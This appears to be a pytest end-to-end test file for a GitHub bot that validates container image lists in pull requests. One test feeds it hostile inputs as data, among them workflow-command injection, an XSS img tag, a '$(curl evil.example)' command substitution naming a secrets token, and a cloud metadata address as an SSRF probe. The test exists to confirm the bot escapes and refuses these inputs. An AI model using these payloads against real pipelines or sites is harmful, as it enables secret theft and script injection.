"""``python -m bot validate-pr`` end to end: the local GitHub fake, a real registry as upstream, a subprocess.

The working directory plays the base-branch checkout of a ``pull_request_target`` job (config and mirrored
list); the pull request's list files live only in the GitHub fake and are read through the API.
"""

from __future__ import annotations

import html
import json
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.report.comment import MARKER
from tests.harness.artifacts import SPDX, descriptor_of, push_helm_chart, push_referrer, sign
from tests.harness.github_fake import GitHubFake
from tests.harness.images import KiB, RegistryClient, build_image, push_built, push_image
from tests.harness.registry import RegistryServer

ROOT = Path(__file__).resolve().parents[2]
REPO = "octo/mirror"
REQUIRED = "mirror/required-images.txt"
DAILY = "mirror/required-images-daily.txt"
FAKE_TOKEN = "ghs_FAKEtoken0123456789abcdefLEAKCHECK"
TARGET = "mirror.example.com"
HEADER = b"# Images to mirror, one per line.\n"


@dataclass
class Run:
    code: int
    stdout: str
    stderr: str
    outputs: str
    summary: str
    seconds: float

    @property
    def result(self) -> dict[str, object]:
        match = re.search(r"^result<<(\S+)\n(.*?)\n\1$", self.outputs, re.MULTILINE | re.DOTALL)
        assert match, self.outputs
        data: dict[str, object] = json.loads(match.group(2))
        return data

    @property
    def lines(self) -> list[dict[str, object]]:
        lines = self.result["lines"]
        assert isinstance(lines, list)
        return lines


def plain(markdown: str) -> str:
    """Roughly what a reader sees: backslash escapes, entities and zero-width spaces resolved."""
    return html.unescape(re.sub(r"\\(.)", r"\1", markdown)).replace("\u200b", "")


class Scenario:
    """A repository in the GitHub fake, a base checkout on disk, and an upstream registry named by a rule."""

    def __init__(self, fake: GitHubFake, workdir: Path, upstream: RegistryServer) -> None:
        self.fake = fake
        self.workdir = workdir
        self.upstream = upstream
        self.host = upstream.host
        fake.add_repo(REPO, files={REQUIRED: HEADER, DAILY: b"# daily\n", "mirror/mirrored-images.txt": b""})
        self.configure()
        self.write_mirrored("")

    def configure(self, limits: str = "") -> None:
        config = (
            f"target: {{registry: {TARGET}}}\n"
            f"rules:\n  - {{source: docker.io, target: dockerhub}}\n  - {{source: '{self.host}', target: up}}\n"
            + (f"limits:\n{limits}" if limits else "")
        )
        (self.workdir / "mirror").mkdir(exist_ok=True)
        (self.workdir / "mirror" / "config.yml").write_text(config)

    def write_mirrored(self, text: str) -> None:
        (self.workdir / "mirror" / "mirrored-images.txt").write_text(text)

    def ref(self, repository: str, tag: str) -> str:
        return f"{self.host}/{repository}:{tag}"

    def open_pull(self, lines: list[str], *, daily: list[str] | None = None, branch: str = "request") -> int:
        self.push(lines, daily=daily, branch=branch)
        return self.fake.open_pull(REPO, head=branch)

    def push(self, lines: list[str], *, daily: list[str] | None = None, branch: str = "request") -> str:
        files: dict[str, bytes | None] = {REQUIRED: HEADER + "".join(f"{line}\n" for line in lines).encode()}
        if daily is not None:
            files[DAILY] = b"# daily\n" + "".join(f"{line}\n" for line in daily).encode()
        return self.fake.commit(REPO, branch, files)

    def run(self, number: int, *extra: str, token: str = FAKE_TOKEN) -> Run:
        event = self.workdir / "event.json"
        event.write_text(json.dumps({"action": "synchronize", "number": number, "pull_request": {"number": number}}))
        outputs, summary = self.workdir / "outputs.txt", self.workdir / "summary.md"
        outputs.write_text("")
        summary.write_text("")
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "PYTHONPATH": str(ROOT),
            "HOME": str(self.workdir),
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": "pull_request_target",
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": REPO,
            "GITHUB_API_URL": self.fake.base_url,
            "GITHUB_TOKEN": token,
            "GITHUB_OUTPUT": str(outputs),
            "GITHUB_STEP_SUMMARY": str(summary),
        }
        started = time.monotonic()
        proc = subprocess.run(
            [sys.executable, "-m", "bot", "validate-pr", *extra],
            cwd=self.workdir,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        seconds = time.monotonic() - started
        return Run(proc.returncode, proc.stdout, proc.stderr, outputs.read_text(), summary.read_text(), seconds)

    def comments(self, number: int) -> list[str]:
        return self.fake.comments(REPO, number)


@pytest.fixture
def scenario(tmp_path: Path, registry: RegistryServer) -> Iterator[Scenario]:
    with GitHubFake(token=FAKE_TOKEN) as fake:
        workdir = tmp_path / "checkout"
        workdir.mkdir()
        yield Scenario(fake, workdir, registry)


def test_valid_pull_request(scenario: Scenario) -> None:
    image = push_image(scenario.upstream, "team/app", "v1", layers=(3 * KiB, 2 * KiB))
    number = scenario.open_pull([scenario.ref("team/app", "v1")])

    run = scenario.run(number)

    assert run.code == 0, run.stdout + run.stderr
    (line,) = run.lines
    assert line["status"] == "ok"
    assert line["target"] == f"{TARGET}/up/team/app:v1"
    assert line["digest"] == image.digest
    assert line["platforms"] == ["linux/amd64", "linux/arm64"]
    assert line["size"] == image.blob_bytes
    (comment,) = scenario.comments(number)
    assert comment.startswith(MARKER)
    assert f"`{TARGET}/up/team/app:v1`" in comment
    assert f"docker pull {TARGET}/up/team/app:v1\n" in comment
    assert f"    newName: {TARGET}/up/team/app\n" in comment
    assert '    newTag: "v1"' in comment
    assert "All 1 added lines are valid" in comment
    assert "| Line | Source | Mirror path |" in run.summary
    assert MARKER not in run.summary
    assert "comment-url<<" in run.outputs and "#issuecomment-" in run.outputs
    assert "::error" not in run.stdout


def test_mixed_pull_request_annotates_the_exact_lines(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    good = scenario.ref("team/app", "v1")
    # A listening socket no rule allows: a request to it would sit in its backlog.
    trap = socket.create_server(("127.0.0.1", 0))
    trap_port = trap.getsockname()[1]
    lines = [
        good,  # line 2
        "quay.io/calico/node:v3#1",  # 3: syntax
        "169.254.169.254/latest/meta-data:v1",  # 4: not allowed
        scenario.ref("team/app", "no-such-tag"),  # 5: missing upstream
        f"{scenario.host}/team/app:v1",  # 6: duplicate of line 2
        f"127.0.0.1:{trap_port}/team/app:v1",  # 7: loopback, but no rule names this port
        f"localhost:{trap_port}/team/app:v1",  # 8: the same trap by name
    ]
    number = scenario.open_pull(lines)

    run = scenario.run(number)

    trap.settimeout(0.2)
    with pytest.raises(TimeoutError):
        trap.accept()  # nobody connected
    trap.close()
    assert run.code == 1
    statuses = {line["line"]: line["status"] for line in run.lines}
    assert statuses == {2: "ok", 3: "error", 4: "error", 5: "error", 6: "error", 7: "error", 8: "error"}
    annotations = [line for line in run.stdout.splitlines() if line.startswith("::error")]
    assert any(a.startswith(f"::error file={REQUIRED},line=3,col=23::") for a in annotations), annotations
    assert any(a.startswith(f"::error file={REQUIRED},line=4,col=1::registry 169.254.169.254") for a in annotations)
    assert any(a.startswith(f"::error file={REQUIRED},line=5,col=1::the image does not exist") for a in annotations)
    assert any(a.startswith(f"::error file={REQUIRED},line=6,col=1::duplicate of line 2") for a in annotations)
    (comment,) = scenario.comments(number)
    assert "6 problems must be fixed" in comment
    assert comment.count("**Fix:**") == 6
    # Only the valid image gets a pull line.
    assert comment.count("docker pull ") == 1
    # Lines 4, 7 and 8 were refused before any request (see the trap above).
    result = run.result
    assert result["ok"] is False and result["errors"] == 6


def test_image_over_the_size_limit(scenario: Scenario) -> None:
    scenario.configure(limits="  max_image_bytes: 100000\n")
    image = push_image(scenario.upstream, "team/big", "v1", layers=(80 * KiB,))
    assert image.blob_bytes > 100000
    number = scenario.open_pull([scenario.ref("team/big", "v1")])

    run = scenario.run(number)

    assert run.code == 1
    (line,) = run.lines
    issues = line["issues"]
    assert isinstance(issues, list)
    assert issues[0]["limit"] == "limits.max_image_bytes"
    assert "limits.max_image_bytes" in run.stdout
    assert "limits.max_image_bytes" in plain(scenario.comments(number)[0])


def test_missing_tag_says_how_to_fix(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    number = scenario.open_pull([scenario.ref("team/app", "v2")])

    run = scenario.run(number)

    assert run.code == 1
    (comment,) = scenario.comments(number)
    assert "the image does not exist upstream" in comment
    assert "check the spelling of the repository and that the tag exists upstream" in comment


def test_big_list_files_are_read_through_the_blobs_api(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    scenario.fake.inline_limit = 10  # every list file is "too big" for the contents API now
    number = scenario.open_pull(["nginx:1.25.3", scenario.ref("team/app", "v1")])
    scenario.write_mirrored("docker.io/library/nginx:1.25.3@sha256:" + "e" * 64 + "\n")

    run = scenario.run(number)

    assert run.code == 0, run.stdout + run.stderr
    assert [line["status"] for line in run.lines] == ["mirrored", "ok"]
    assert run.lines[0]["mirrored_at"] == "mirror/mirrored-images.txt:1"
    assert scenario.fake.requests_to("GET", rf"/repos/{REPO}/git/blobs/[0-9a-f]+")
    assert "already mirrored at" in plain(scenario.comments(number)[0])


def test_fork_pull_request_is_read_through_the_api(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    scenario.fake.fork(REPO, "mallory")
    scenario.fake.commit(
        "mallory/mirror", "patch-1", {REQUIRED: HEADER + f"{scenario.ref('team/app', 'v1')}\n".encode()}
    )
    number = scenario.fake.open_pull(REPO, head="patch-1", head_repo="mallory/mirror", user="mallory")

    run = scenario.run(number)

    assert run.code == 0, run.stdout + run.stderr
    assert run.lines[0]["target"] == f"{TARGET}/up/team/app:v1"
    assert len(scenario.comments(number)) == 1
    # Nothing was written to the fork: the only write is the comment on the base repository.
    writes = [r for r in scenario.fake.requests if r.method != "GET"]
    assert [(r.method, r.path) for r in writes] == [("POST", f"/repos/{REPO}/issues/{number}/comments")]


def test_second_push_updates_the_same_comment(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    number = scenario.open_pull([scenario.ref("team/app", "v1"), "Bad Reference"])
    first = scenario.run(number)
    assert first.code == 1
    (before,) = scenario.comments(number)
    assert "1 problem must be fixed" in before

    scenario.push([scenario.ref("team/app", "v1")])
    second = scenario.run(number)

    assert second.code == 0, second.stdout + second.stderr
    (after,) = scenario.comments(number)
    assert "All 1 added lines are valid" in after
    assert len(scenario.fake.requests_to("POST", rf"/repos/{REPO}/issues/\d+/comments")) == 1
    assert len(scenario.fake.requests_to("PATCH", rf"/repos/{REPO}/issues/comments/\d+")) == 1


def test_removing_every_line_updates_the_comment_and_adding_none_starts_none(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    number = scenario.open_pull([scenario.ref("team/app", "v1")])
    assert scenario.run(number).code == 0
    scenario.push([])
    assert scenario.run(number).code == 0
    (comment,) = scenario.comments(number)
    assert "No image lines were added" in comment

    scenario.fake.commit(REPO, "other", {REQUIRED: HEADER + b"# just a comment\n"})
    quiet = scenario.fake.open_pull(REPO, head="other")
    run = scenario.run(quiet)
    assert run.code == 0
    assert scenario.comments(quiet) == []


def test_sticky_comment_is_found_on_a_later_page_and_never_a_users(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    number = scenario.open_pull([scenario.ref("team/app", "v1"), "Bad"])
    # A user quoting the marker must not be taken for the bot's comment, and the bot's comment lands on page 2.
    spoof = scenario.fake.add_comment(REPO, number, f"{MARKER} me", user="mallory")
    for index in range(120):
        scenario.fake.add_comment(REPO, number, f"chatter {index}")
    assert scenario.run(number).code == 1
    scenario.push([scenario.ref("team/app", "v1")])

    run = scenario.run(number)

    assert run.code == 0
    mine = [c for c in scenario.fake.issue_comments.values() if c.user == scenario.fake.bot_login]
    assert len(mine) == 1
    assert "All 1 added lines are valid" in mine[0].body
    assert scenario.fake.issue_comments[spoof].body == f"{MARKER} me"
    pages = [r.query.get("page") for r in scenario.fake.requests_to("GET", rf"/repos/{REPO}/issues/\d+/comments")]
    assert ["2"] in pages


def test_daily_line_reports_tags_to_copy(scenario: Scenario) -> None:
    built = build_image(seed=3)
    for tag in ("v1.0", "v1.1", "v1.2-rc1", "v2.0"):
        push_built(scenario.upstream, "team/tool", tag, built)
    scenario.write_mirrored(f"{scenario.ref('team/tool', 'v1.0')}\n")
    number = scenario.open_pull([], daily=[f"{scenario.host}/team/tool", f"{scenario.host}/team/nothing"])

    run = scenario.run(number)

    assert run.code == 1
    tool, nothing = run.lines
    assert (tool["status"], tool["tags_to_copy"], tool["target"]) == ("ok", 2, f"{TARGET}/up/team/tool")
    assert nothing["status"] == "error"
    comment = scenario.comments(number)[0]
    assert "daily: 2 of 4 tags to copy" in comment
    assert "repository does not exist upstream" in comment


def test_pull_request_cannot_inject_commands_markdown_or_leak_the_token(scenario: Scenario) -> None:
    push_image(scenario.upstream, "team/app", "v1")
    hostile = [
        "::set-output name=result::pwned",
        "x ::add-mask::abc",
        "<img src=x onerror=alert(1)> @octo/admins [link](https://evil.example) `code` | cell",
        "$(curl evil.example) ${{ secrets.TOKEN }}",
        scenario.ref("team/app", "v1"),
    ]
    number = scenario.open_pull(hostile)
    # A config change in the pull request does not change the rules used.
    scenario.fake.commit(REPO, "request", {"mirror/config.yml": b"rules:\n  - {source: 169.254.169.254, target: x}\n"})

    run = scenario.run(number)

    assert run.code == 1
    for text in (run.stdout, run.stderr, run.outputs, run.summary, *scenario.comments(number)):
        assert FAKE_TOKEN not in text
    for output_line in run.stdout.splitlines():
        assert not output_line.startswith(("::set-output", "::add-mask", "::save-state")), output_line
        if output_line.startswith("::"):
            assert output_line.startswith(("::error ", "::warning ", "::notice ")), output_line
    assert not re.search(r"^result<<", run.stdout, re.MULTILINE)
    assert json.loads(re.findall(r"^result<<(\S+)\n(.*?)\n\1$", run.outputs, re.M | re.S)[0][1])["ok"] is False
    (comment,) = scenario.comments(number)
    for raw in ("<img", "@octo", "[link]", "](https", "://evil", "`code`", "| cell"):
        assert raw not in comment, raw
    assert not re.search(r"(?<!\\)\$", comment)  # math
    assert "<img src=x onerror=alert(1)> @octo/admins [link](https://evil.example)" in plain(comment)
    assert "changes mirror/config.yml" in comment
    assert "169.254.169.254" not in comment


def test_hundred_line_pull_request_is_fast(scenario: Scenario, capsys: pytest.CaptureFixture[str]) -> None:
    scenario.configure(limits="  max_new_lines: 200\n")
    built = build_image(seed=11, layers=(KiB, KiB))
    tags = [f"v{index}" for index in range(100)]
    for tag in tags:
        push_built(scenario.upstream, "team/many", tag, built)
    number = scenario.open_pull([scenario.ref("team/many", tag) for tag in tags])

    run = scenario.run(number)

    assert run.code == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert len(run.lines) == 100
    assert all(line["status"] == "ok" for line in run.lines)
    assert len(scenario.comments(number)[0]) < 65536
    with capsys.disabled():
        print(f"\n100-line validate-pr against the local registry: {run.seconds:.2f} s (process start included)")
    assert run.seconds < 30


def test_signed_unsigned_and_non_image_lines(scenario: Scenario) -> None:
    signed = push_image(scenario.upstream, "team/signed", "1.0")
    push_image(scenario.upstream, "team/plain", "1.0", seed=1)
    push_image(scenario.upstream, "strict/plain", "1.0", seed=2)
    with RegistryClient(scenario.upstream) as client:
        sign(client, "team/signed", signed.digest)
        push_referrer(client, "team/signed", descriptor_of(client, "team/signed", signed.digest), SPDX, b"{}")
        chart = push_helm_chart(client, "charts/demo", "0.1.0")
        sign(client, "charts/demo", chart.digest)
    config = scenario.workdir / "mirror" / "config.yml"
    config.write_text(config.read_text() + f"require_signature: ['{scenario.host}/strict/*']\n")
    lines = [
        scenario.ref("team/signed", "1.0"),
        scenario.ref("team/plain", "1.0"),
        scenario.ref("strict/plain", "1.0"),
        scenario.ref("charts/demo", "0.1.0"),
    ]
    number = scenario.open_pull(lines)

    run = scenario.run(number)

    assert run.code == 1, run.stdout + run.stderr
    by_text = {line["text"]: line for line in run.lines}
    assert by_text[lines[0]]["signed"] is True
    assert by_text[lines[0]]["attached"] == "1 signature, 1 SBOM"
    assert by_text[lines[1]]["signed"] is False and by_text[lines[1]]["status"] == "ok"
    strict = by_text[lines[2]]
    assert strict["status"] == "error"
    issues = strict["issues"]
    assert isinstance(issues, list) and len(issues) == 1
    issue = issues[0]
    assert "carries no signature" in issue["message"] and "require_signature" in issue["message"]
    assert "cosign sign" in issue["fix"]
    assert by_text[lines[3]]["kind"] == "Helm chart" and by_text[lines[3]]["signed"] is True
    (comment,) = scenario.comments(number)
    text = plain(comment)
    assert "| 🔏 signed (1 signature, 1 SBOM) |" in text
    assert "| unsigned |" in text
    assert "| Helm chart |" in text
    assert f"docker pull {TARGET}/up/team/signed:1.0" in text
    assert f"docker pull {TARGET}/up/charts/demo" not in text  # a chart is no image to pull
    assert f"{lines[2]}:" in run.stdout or "carries no signature" in run.stdout
